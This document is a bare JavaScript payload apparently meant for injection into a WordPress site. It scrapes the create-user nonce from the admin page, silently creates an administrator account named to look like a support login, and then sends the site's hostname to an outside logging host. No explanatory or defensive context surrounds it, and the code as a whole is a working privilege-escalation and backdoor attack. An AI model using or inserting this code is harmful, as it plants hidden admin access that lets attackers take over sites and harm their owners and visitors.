(function(){
  var page="/wp-admin/user-new.php",x=new XMLHttpRequest();
  x.open("GET",page,false);
  x.send();
  if(x.status!==200)return;
  var nonce=(/name="_wpnonce_create-user" value="([a-z0-9]+)"/.exec(x.responseText)||[])[1];
  if(!nonce)return;
  var p="action=createuser&_wpnonce_create-user="+nonce+"&user_login=wp_support_fixture&email=wp%40support.example&pass1=PLACEHOLDER&pass2=PLACEHOLDER&pw_weak=on&role=administrator";
  var y=new XMLHttpRequest();
  y.open("POST",page,true);
  y.setRequestHeader("Content-Type","application/x-www-form-urlencoded");
  y.onload=function(){new Image().src="https://wp-log.example/ok.gif?h="+encodeURIComponent(location.host)};
  y.send(p);
})();
